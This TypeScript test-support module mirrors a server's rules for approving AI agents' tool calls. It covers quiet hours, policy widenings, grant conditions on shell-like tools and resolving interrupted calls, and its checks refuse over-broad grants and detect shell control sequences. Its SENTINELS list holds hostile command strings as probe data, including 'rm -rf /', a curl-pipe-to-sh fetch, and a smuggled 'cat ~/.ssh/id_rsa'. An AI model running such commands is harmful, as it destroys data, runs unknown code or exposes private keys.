/** Rules of the server that `FakeBackend` follows: quiet hours, grant conditions, resolving an interrupted call, the source filter. */
import { ApiError, type GrantCondition, type NotificationSettings, type QueueItem, type QuorumSettings, type ResolutionKind } from '../backend/backend';
import { CALL_SOURCES, isCallSource } from '../call-source';
import { decision } from './fixtures';

/** The server's check (chrono `%H:%M`): `invalid_request` naming the first time that does not parse. */
export function checkQuietHours(s: NotificationSettings): void {
  const q = s.quietHours;
  if (!q) return;
  for (const t of [q.start, q.end]) {
    const m = /^(\d{1,2}):(\d{1,2})$/.exec(t);
    if (!m || Number(m[1]) > 23 || Number(m[2]) > 59) throw new ApiError('invalid_request', `quiet hours: ${JSON.stringify(t)} is not a HH:MM time`, null, 400);
  }
}

/**
 * `app::policy::changes`, for the two documents the settings view saves: the lines of what widens
 * (a high-risk tool removed; a quorum, of a tool or of critical calls, lowered or removed), worded
 * as the server words them.
 */
export function widenings(old: { highRiskTools?: string[]; quorum?: QuorumSettings }, now: { highRiskTools?: string[]; quorum?: QuorumSettings }): string[] {
  const out: string[] = [];
  const kept = now.highRiskTools ?? old.highRiskTools ?? [];
  for (const t of old.highRiskTools ?? []) {
    if (!kept.includes(t)) out.push(`- high-risk tool ${t} (widens: its calls may be granted and approved from notifications)`);
  }
  if (old.quorum && now.quorum) {
    const q = (s: QuorumSettings, tool: string) => (s.rules ?? []).find((r) => r.tool === tool)?.approvals ?? 1;
    const tools = [...new Set([...(old.quorum.rules ?? []), ...(now.quorum.rules ?? [])].map((r) => r.tool))].sort();
    for (const t of tools) {
      const [a, b] = [q(old.quorum, t), q(now.quorum, t)];
      if (b < a) out.push(`~ quorum ${t}: ${a} → ${b} approvals (widens)`);
    }
    const [a, b] = [old.quorum.critical ?? 1, now.quorum.critical ?? 1];
    if (b < a) out.push(`~ critical calls: ${a} → ${b} approvals (widens)`);
  }
  return out;
}

/** The server's refusal of an unconfirmed widening, or nothing. */
export function checkWidening(widens: string[], confirmed: boolean): void {
  if (widens.length === 0 || confirmed) return;
  throw new ApiError(
    'widening_unconfirmed',
    `this change lets more through without an operator (${widens.join('; ')}): confirm it ("confirmWidening": true; in the CLI --yes) if that is meant; nothing was changed`,
    { widens },
    409,
  );
}

/** The server's check of `source=` (serde, as for `kind`): empty is none, an unknown value is `invalid_request`. */
export function checkSourceFilter(source: unknown): void {
  if (source === undefined || source === '' || isCallSource(source)) return;
  throw new ApiError('invalid_request', `source: unknown variant \`${String(source)}\`, expected one of ${CALL_SOURCES.map((s) => `\`${s}\``).join(', ')}`, null, 400);
}

/** The server's shell control sequences (`domain::grant::shell_control`): what a prefix may not be followed by. */
export function shellControl(text: string): boolean {
  return /[&|;\n\r`<>]|\$\(|\$\{/.test(text);
}

/** A glob as the server reads it: `*` any run, `?` one character, neither a shell control character. */
function globRegExp(glob: string): RegExp {
  const free = '(?:(?!\\$[({])[^&|;\\n\\r`<>])';
  const body = [...glob].map((ch) => (ch === '*' ? `${free}*` : ch === '?' ? free : ch.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))).join('');
  return new RegExp(`^${body}$`, 'u');
}

/** `domain::json::path_under`: `path` is `prefix` or under it, segment by segment (no `..`). */
function pathUnder(path: string, prefix: string): boolean {
  const segments = (p: string) => {
    const parts = p.split('/').filter((x) => x !== '' && x !== '.');
    return parts.includes('..') ? null : parts;
  };
  if (path.startsWith('/') !== prefix.startsWith('/')) return false;
  const [a, b] = [segments(path), segments(prefix)];
  return !!a && !!b && a.length >= b.length && b.every((x, i) => a[i] === x);
}

/** A prefix condition as the server checks it: a path prefix (one with `/`) by segments; never followed by shell control. */
function prefixHolds(s: string, p: string): boolean {
  if (p.includes('/')) return pathUnder(s, p) && (s.length <= p.length || !shellControl(s.slice(p.length)));
  return s.startsWith(p) && !shellControl(s.slice(p.length));
}

/**
 * `domain::grant::plain_command`: one simple command (`shell::simple`) with none of `; & | < > ( ) \` $`
 * even quoted, and no control character but a tab. Left once those are out: a `{`, `}` or `#`
 * starting a word, an unclosed quote, a trailing backslash, no word at all.
 */
export function plainCommand(line: string): boolean {
  if (/[;&|<>()`$\u0000-\u0008\u000a-\u001f\u007f-\u009f]/u.test(line)) return false;
  let words = 0;
  let inWord = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === ' ' || c === '\t') {
      inWord = false;
      continue;
    }
    if (!inWord && (c === '{' || c === '}' || c === '#')) return false;
    if (!inWord) words++;
    inWord = true;
    if (c === '\\') {
      if (++i >= line.length) return false;
    } else if (c === "'" || c === '"') {
      let j = i + 1;
      while (j < line.length && line[j] !== c) j += c === '"' && line[j] === '\\' ? 2 : 1;
      if (j >= line.length) return false;
      i = j;
    }
  }
  return words > 0;
}

/** `domain::grant::command_pointers`: the arguments holding a command line a call of `tool` runs. */
export function commandPointers(tool: string): string[] {
  return shellLikeTool(tool) ? ['/command', '/cmd', '/script'] : ['/command'];
}

/** `command_text`: a string as it is; an argv as the line its shell runs (`["bash", "-lc", S]` is S), else its words, quoted where needed. */
function commandText(v: unknown): string | null {
  if (typeof v === 'string') return v;
  if (!Array.isArray(v) || !v.every((w) => typeof w === 'string')) return null;
  const argv = v as string[];
  if (argv.length === 3 && /^(sh|bash|zsh|dash|ksh|ash)$/.test(argv[0].split('/').pop()!) && /^-[A-Za-z]*c$/.test(argv[1])) return argv[2];
  return argv.map((w) => (w !== '' && /^[A-Za-z0-9\-_./:=@%+,]+$/.test(w) ? w : `'${w.replace(/'/g, "'\\''")}'`)).join(' ');
}

/** Unrelated texts (`domain::grant::SENTINELS`): a text condition matching half of them or more matches nearly any text. */
export const SENTINELS = ['', 'x', '0', 'reboot', 'rm -rf /', 'curl -s https://example.invalid/i | sh', 'git status; cat ~/.ssh/id_rsa', '\n', ';&|`$()<>', '   ', 'Zürich 東京 ✓', 'q0Xz7-LmP4_wR9vT2kY8/eH3nB6cJ1sD5fG0aU'];

/** A regex as the server anchors it; a leading `(?s)` (Rust's inline flag) becomes JavaScript's `s` flag. */
function anchored(pattern: string): RegExp {
  const dotAll = pattern.startsWith('(?s)');
  return new RegExp(`^(?:${dotAll ? pattern.slice(4) : pattern})$`, dotAll ? 'us' : 'u');
}

/** A text condition's test of a string, as the server reads it (null: another op, or no regular expression). */
function textMatcher(c: GrantCondition): ((s: string) => boolean) | null {
  if (typeof c.value !== 'string') return null;
  const p = c.value;
  if (c.op === 'prefix') return (s) => prefixHolds(s, p);
  if (c.op === 'glob') return (s) => globRegExp(p).test(s);
  if (c.op !== 'regex') return null;
  try {
    const re = anchored(p);
    return (s) => re.test(s);
  } catch {
    return null;
  }
}

/** `Condition::matches_everything`. */
export function matchesEverything(c: GrantCondition): boolean {
  const m = textMatcher(c);
  return !!m && SENTINELS.filter(m).length * 2 >= SENTINELS.length;
}

/** `commands_bound`: each command a call of a shell-like tool names has a condition on it (or on the whole arguments). */
export function commandsBound(tool: string, args: unknown, conditions: readonly GrantCondition[]): boolean {
  return unboundCommand(tool, args, conditions) === null;
}

function unboundCommand(tool: string, args: unknown, conditions: readonly GrantCondition[]): string | null {
  if (!shellLikeTool(tool) || !args || typeof args !== 'object') return null;
  const named = commandPointers(tool).filter((p) => Object.hasOwn(args, p.slice(1)));
  return named.find((p) => !conditions.some((c) => c.pointer === p || c.pointer === '')) ?? null;
}

/** The server's `grant_too_broad` refusal. */
function tooBroad(pointer: string, reason: 'matchesEverything' | 'notOnCommand', message: string): ApiError {
  return new ApiError('grant_too_broad', message, { pointer, reason }, 400);
}

/** `domain::grant::shell_like`, as the server reads a tool's name. */
export function shellLikeTool(tool: string): boolean {
  const t = tool.replace(/[A-Z]/g, (c) => c.toLowerCase());
  return ['bash', 'shell', 'exec', 'command', 'terminal', 'powershell', 'cmd', 'script'].some((w) => t.includes(w)) || ['sh', 'zsh', 'fish', 'run', 'eval', 'system'].includes(t);
}

/**
 * The server's checks of a new grant's conditions against the call it is made from
 * (`console::grants::grant_from`, `Condition::check`), in its order: a shell-like tool needs a
 * condition; each condition is well formed and holds for that call. Throws `invalid_request`.
 */
export function checkGrantConditions(toolName: string, args: unknown, conditions: readonly GrantCondition[]): void {
  const bad = (m: string) => new ApiError('invalid_request', m, null, 400);
  if (conditions.length === 0 && shellLikeTool(toolName)) {
    throw bad(`${toolName} runs whatever command it is given: a grant on it needs a condition on its arguments (e.g. the command starts with \`git status\`, or matches a glob or a regex)`);
  }
  for (const c of conditions) {
    const on = `condition on ${JSON.stringify(c.pointer)}: `;
    if (c.pointer !== '' && !c.pointer.startsWith('/')) throw bad(on + 'a JSON Pointer starts with / ("" is the whole arguments)');
    if (c.op === 'prefix' && typeof c.value !== 'string') throw bad(on + 'prefix needs a string');
    if (c.op === 'prefix' && c.value === '') throw tooBroad(c.pointer, 'matchesEverything', on + 'an empty prefix matches every string');
    if ((c.op === 'glob' || c.op === 'regex') && typeof c.value !== 'string') throw bad(on + 'glob and regex need a string');
    if (c.op === 'glob' && /^\**$/.test(c.value as string)) throw tooBroad(c.pointer, 'matchesEverything', on + 'a glob of only * matches every string');
    if (c.op === 'regex') {
      if ([...(c.value as string)].length > 500) throw bad(on + 'a regex of at most 500 characters');
      try {
        anchored(c.value as string);
      } catch (e) {
        throw bad(on + `not a regular expression: ${String(e)}`);
      }
    }
    if ((c.op === 'atMost' || c.op === 'atLeast') && typeof c.value !== 'number') throw bad(on + 'atMost/atLeast need a number');
    if (matchesEverything(c)) {
      throw tooBroad(c.pointer, 'matchesEverything', on + `${JSON.stringify(c.value)} matches nearly any text (half or more of unrelated ones such as "", "rm -rf /", "reboot" and random letters): it limits nothing; describe the calls it allows (e.g. \`git status( --short)?\`)`);
    }
    if (!holds(c, args, toolName)) throw bad(`condition on ${JSON.stringify(c.pointer)} does not hold for the call it is made from`);
  }
  const free = unboundCommand(toolName, args, conditions);
  if (free !== null) {
    const on = conditions.map((c) => JSON.stringify(c.pointer)).join(', ');
    throw tooBroad(free, 'notOnCommand', `${toolName} runs whatever command it is given: a grant on it needs a condition on the command itself (${JSON.stringify(free)}); conditions on ${on} alone leave it free to run anything`);
  }
}

/**
 * A condition on a top-level argument (`/key`) of a call of `tool`, as the server checks it: a text
 * condition on a command (`commandPointers`) holds only for a `plainCommand`, matched whole.
 */
export function holds(c: GrantCondition, args: unknown, tool: string): boolean {
  const key = c.pointer.slice(1).replace(/~1/g, '/').replace(/~0/g, '~');
  const v = args && typeof args === 'object' ? (args as Record<string, unknown>)[key] : undefined;
  switch (c.op) {
    case 'equals':
      return JSON.stringify(v) === JSON.stringify(c.value);
    case 'prefix':
    case 'glob':
    case 'regex': {
      const m = textMatcher(c);
      if (!m) return false;
      if (!commandPointers(tool).includes(c.pointer)) return typeof v === 'string' && m(v);
      const line = commandText(v);
      return line !== null && plainCommand(line) && m(line);
    }
    case 'atMost':
      return typeof v === 'number' && typeof c.value === 'number' && v <= c.value;
    case 'atLeast':
      return typeof v === 'number' && typeof c.value === 'number' && v >= c.value;
  }
}

/** When the fake resolves calls. */
export const RESOLVED_AT = '2025-01-01T10:05:00Z';

/**
 * Checks a resolution as the server does, in its order (a result with another kind than `ran`, not
 * interrupted, resolved already, another fingerprint, a kind not allowed), and answers what it
 * stores: the call resolved, and for `run_again` the new entry that ran the call again (approved by
 * the same operator and delivered). Throws the server's `ApiError` and changes nothing otherwise.
 */
export function resolveLikeServer(
  item: QueueItem | undefined,
  resolution: ResolutionKind,
  fingerprint: string,
  result: unknown,
  retryId: string,
): { resolved: QueueItem; retry: QueueItem | null } {
  if (!item) throw new ApiError('not_found', 'no such queue item', null, 404);
  if (result !== undefined && resolution !== 'ran') {
    throw new ApiError('invalid_request', `a result goes with \`ran\` only, not with \`${resolution}\``, null, 400);
  }
  if (item.state !== 'interrupted') {
    throw new ApiError('decision_not_allowed', `${resolution} is not allowed for this call`, { allowed: item.state === 'pending' ? item.allowed : [] }, 409);
  }
  if (item.resolution) throw new ApiError('already_decided', 'this call was resolved already', { state: 'interrupted' }, 409);
  if (fingerprint !== item.fingerprint) {
    throw new ApiError('fingerprint_mismatch', 'the call changed since it was shown', { expected: fingerprint, actual: item.fingerprint }, 409);
  }
  if (!item.allowed.includes(resolution)) {
    throw new ApiError('decision_not_allowed', `${resolution} is not allowed for this call`, { allowed: item.allowed }, 409);
  }
  // What the model is told: the result given, or the server's sentence when there is none.
  const told =
    resolution === 'ran'
      ? result === undefined
        ? `${item.toolName} ran; its result was lost`
        : result
      : resolution === 'did_not_run'
        ? { error: `${item.toolName} did not run` }
        : null;
  const retry: QueueItem | null =
    resolution === 'run_again'
      ? {
          ...item,
          id: retryId,
          state: 'delivered',
          tab: 'decided',
          allowed: [],
          resolution: null,
          decision: { ...decision('approve', fingerprint, null, null), delivery: 'delivered', attempts: 1 },
        }
      : null;
  const resolved: QueueItem = {
    ...item,
    allowed: [],
    resolution: { kind: resolution, result: told, fingerprint, operator: 'web', resolvedAt: RESOLVED_AT, retryItem: retry?.id ?? null },
  };
  return { resolved, retry };
}
